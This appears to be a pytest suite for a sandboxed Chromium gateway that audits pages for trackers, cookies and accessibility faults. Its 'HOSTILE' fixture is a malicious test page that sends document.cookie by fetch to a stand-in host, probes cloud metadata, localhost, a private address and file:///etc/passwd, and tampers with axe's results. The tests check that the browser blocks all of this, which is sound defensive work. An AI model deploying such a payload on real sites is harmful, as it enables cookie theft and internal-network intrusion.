"""Chromium in front of pages that mean well or not (STO-93, STO-95, STO-112)."""

from __future__ import annotations

import asyncio
import tempfile
from pathlib import Path
from threading import Event
from time import monotonic

import pytest

from apps.store.gateways.web import browser as module
from apps.store.gateways.web import browsing
from apps.store.gateways.web.base import RefusedUrlError, UnreachableError
from apps.store.gateways.web.browser import ChromiumBrowser, find_browser
from apps.store.gateways.web.seclusion import wrapper
from tests.store.gateways.places import dripping, page, redirect

HOST = "www.exemple-sante.fr"
GOOD = """<!doctype html><html lang="fr"><head><title>Carnet</title><link rel="icon" href="data:,"></head>
<body><main><h1>Carnet</h1><p>Bonjour</p></main></body></html>"""
BAD = """<!doctype html><html><head><title>x</title><link rel="icon" href="data:,">
<script src="https://suivi.fr/t.js"></script></head><body><img src="/a.png"><img src="/b.png">
<input type="text"><a href="#"></a>
<script>document.cookie = "ecrit=1"</script></body></html>"""
TRACKER = b"new Image().src = 'https://mesure.fr/p.gif'; document.cookie = 'suivi=1'"
HOSTILE = """<!doctype html><html lang="fr"><head><title>x</title><link rel="icon" href="data:,">
<link rel="preconnect" href="https://127.0.0.1:6379"><link rel="dns-prefetch" href="https://10.0.0.1"></head><body>
<img src="https://169.254.169.254/latest/meta-data/"><img src="http://127.0.0.1:%(port)s/">
<iframe src="file:///etc/passwd"></iframe>
<iframe src="https://[::1]/"></iframe><img src="https://dedans.fr/"><a id="a" download href="/gros">x</a><script>
fetch("https://collecte.fr/", {method: "POST", body: document.cookie, mode: "no-cors"}).catch(() => 0)
navigator.sendBeacon("https://balise.fr/", "x")
new WebSocket("ws://127.0.0.1:%(port)s/")
new WebSocket("wss://ligne.fr/")
new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:%(port)s"}]}).createOffer({offerToReceiveAudio: true})
window.open("https://fenetre.fr/")
document.getElementById("a").click()
window.axe = {run: () => Promise.resolve({violations: []})}
Object.defineProperty(Array.prototype, "map", {value: () => [["faux", "critical", 7]]})
</script></body></html>"""


def processes_of(home: str) -> list[str]:
    """Command lines that name a folder of a visit."""
    found = []
    for path in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            words = path.read_bytes().replace(b"\0", b" ").decode("utf-8", "replace")
        except OSError:
            continue
        if home in words:
            found.append(words)
    return found


def all_gone(home: str) -> bool:
    """Within five seconds: who is killed needs a moment."""
    waiting = Event()
    return any(not processes_of(home) or waiting.wait(0.1) for _ in range(50))


@pytest.fixture
def own_place(monkeypatch):
    """Where the profiles of this test lie: workers of a demonstration visit sites on the same machine."""
    with tempfile.TemporaryDirectory() as place:
        monkeypatch.setattr(tempfile, "tempdir", place)
        yield Path(place)


class TestFinding:
    def test_where_it_is_not_installed_there_is_none(self, net, monkeypatch):
        monkeypatch.setattr(module, "CHROMIUM", Path("/nowhere/chromium"))

        assert find_browser(web=net.web()) is None

    def test_without_its_driver_there_is_none(self, net, monkeypatch):
        monkeypatch.setattr(module, "find_spec", lambda _name: None)

        assert find_browser(web=net.web()) is None

    def test_the_page_itself_is_judged_before_a_browser_starts(self, net, tmp_path):
        browser = ChromiumBrowser(web=net.web(), chromium=tmp_path / "nobody")

        with pytest.raises(RefusedUrlError, match="not-public"):
            browser.visit("https://127.0.0.1/")
        with pytest.raises(RefusedUrlError, match="unresolved"):
            browser.visit("https://inconnu.fr/")

    def test_a_browser_that_does_not_start_is_our_own_trouble(self, net, tmp_path):
        net.site(HOST, page(GOOD.encode()))

        with pytest.raises(UnreachableError, match="broken"):
            ChromiumBrowser(web=net.web(), chromium=tmp_path / "nobody").visit(f"https://{HOST}/")

    def test_a_browser_that_hangs_is_ended_with_all_it_started(self, net, tmp_path):
        net.site(HOST, page(GOOD.encode()))
        hanging = tmp_path / "chromium"
        hanging.write_text(f"#!/bin/sh\nsh -c 'sleep 60; true' {tmp_path} &\nsleep 60\n", encoding="utf-8")
        hanging.chmod(0o755)
        begin = monotonic()

        with pytest.raises(UnreachableError, match="timeout"):
            ChromiumBrowser(web=net.web(), chromium=hanging, seconds=2.5).visit(f"https://{HOST}/")

        assert monotonic() - begin < 10
        assert processes_of(str(tmp_path)) == []


class Session:
    """Chromium as its protocol answers: the tree, a world, the script of axe, what axe says."""

    def __init__(self, loaded, found):
        tree = {"frameTree": {"frame": {"id": "1"}}}
        self.answers = iter([tree, {"executionContextId": 1}, loaded, found])

    async def send(self, *_asked):
        return next(self.answers)

    async def new_cdp_session(self, _page):
        return self


THROWN = {"result": {"type": "object", "subtype": "error"}, "exceptionDetails": {"text": "Uncaught"}}
LOADED = {"result": {"type": "number", "value": 0}}
FOUND = {"result": {"type": "object", "value": [["label", "critical", 2], ["region", "moderate", 1]]}}


@pytest.mark.parametrize(
    ("loaded", "found", "expected"),
    [
        (LOADED, FOUND, {"label": 2}),
        (LOADED, {"result": {"value": []}}, {}),
        (THROWN, FOUND, None),
        (LOADED, THROWN, None),
        (LOADED, {"result": {"type": "undefined"}}, None),
    ],
)
def test_sto_95_axe_that_throws_has_not_found_nothing(loaded, found, expected):
    assert asyncio.run(browsing.violations(None, Session(loaded, found))) == expected


def test_sto_93_a_visit_says_how_the_page_answered(net, monkeypatch):
    net.site(HOST, page(GOOD.encode(), status="503 Service Unavailable"))
    monkeypatch.setattr(module, "_converse", lambda *_args, **_options: {"cookies": [], "violations": None})

    visit = ChromiumBrowser(web=net.web()).visit(f"https://{HOST}/")

    assert (visit.status, visit.violations) == (503, None)


@pytest.mark.e2e
class TestVisit:
    def browser(self, net) -> ChromiumBrowser:
        found = find_browser(web=net.web())
        assert found is not None
        return found

    def test_sto_93_a_quiet_page(self, net):
        net.site(HOST, page(GOOD.encode()))

        visit = self.browser(net).visit(f"https://{HOST}/")

        assert (visit.url, visit.requests, visit.cookies, visit.violations, visit.refused) == (
            f"https://{HOST}/",
            (),
            (),
            {},
            (),
        )

    def test_sto_93_third_parties_and_cookies_before_anybody_clicks(self, net):
        net.site(HOST, page(BAD.encode(), lines=("Set-Cookie: a=1; Path=/", "Set-Cookie: b=2; Path=/; Secure")))
        tracker = "Set-Cookie: uid=9; Path=/; Secure; SameSite=None"
        net.site("suivi.fr", page(TRACKER, lines=(tracker,)), address="93.184.215.20")
        net.site("mesure.fr", page(b""), address="93.184.215.21")

        visit = self.browser(net).visit(f"https://{HOST}/")

        assert visit.requests == ("mesure.fr", "suivi.fr")
        assert set(visit.cookies) == {
            (HOST, "a"),
            (HOST, "b"),
            (HOST, "ecrit"),
            (HOST, "suivi"),
            ("suivi.fr", "uid"),
        }
        assert visit.violations == {"html-has-lang": 1, "image-alt": 2, "label": 1, "link-name": 1}

    def test_the_page_behind_its_redirects(self, net):
        net.site("exemple-sante.fr", redirect(f"https://{HOST}/"), address="93.184.215.20")
        net.site(HOST, page(GOOD.encode()))

        visit = self.browser(net).visit("https://exemple-sante.fr/")

        assert (visit.url, visit.requests) == (f"https://{HOST}/", ())

    def test_sto_112_a_page_that_wants_inside(self, net, connections):
        """Only the places of this internet are connected, all from here."""
        inner = net.site("dedans.fr", page(), address="10.0.0.1", port=80)
        net.site(
            HOST,
            page(
                (HOSTILE % {"port": inner.port}).encode(),
                lines=("Content-Security-Policy: script-src 'unsafe-inline'",),
            ),
        )

        visit = self.browser(net).visit(f"https://{HOST}/")

        assert inner.met == 0
        assert ("10.0.0.1", 443) not in net.dialled
        assert {port for _, port in connections} <= set(net.places.values()) - {inner.port}
        assert {"169.254.169.254", "127.0.0.1", "::1", "dedans.fr"} <= set(visit.refused)
        assert {"collecte.fr", "balise.fr", "ligne.fr"} <= {*visit.requests, *visit.refused}
        assert "faux" not in visit.violations
        assert visit.violations["image-alt"] == 3

    @pytest.mark.parametrize("command", [wrapper(), ()], ids=["alone", "not-alone"])
    def test_a_page_that_never_rests_is_ended(self, net, command, monkeypatch, own_place):
        """Also on a machine that gives it no processes of its own: Chromium ends with who drove it."""
        monkeypatch.setattr(module, "wrapper", lambda: command)
        net.site(HOST, page(b"<!doctype html><title>x</title><script>while (true) {}</script>"))
        browser = ChromiumBrowser(web=net.web(), seconds=8)
        begin = monotonic()

        with pytest.raises(UnreachableError, match="timeout"):
            browser.visit(f"https://{HOST}/")

        assert monotonic() - begin < 14
        assert all_gone(str(own_place))

    def test_a_part_that_never_comes_does_not_hold_the_rest(self, net):
        net.site(HOST, page(BAD.replace("suivi.fr/t.js", "lent.fr/t.css").encode()))
        net.site("lent.fr", dripping(b"", b""), address="93.184.215.20")

        assert self.browser(net).visit(f"https://{HOST}/").requests == ("lent.fr",)

    def test_nothing_of_a_visit_stays(self, net, own_place):
        net.site(HOST, page(GOOD.encode()))
        browser = self.browser(net)

        browser.visit(f"https://{HOST}/")

        assert processes_of(str(own_place)) == []
        assert list(own_place.glob("ens-browser-*")) == []
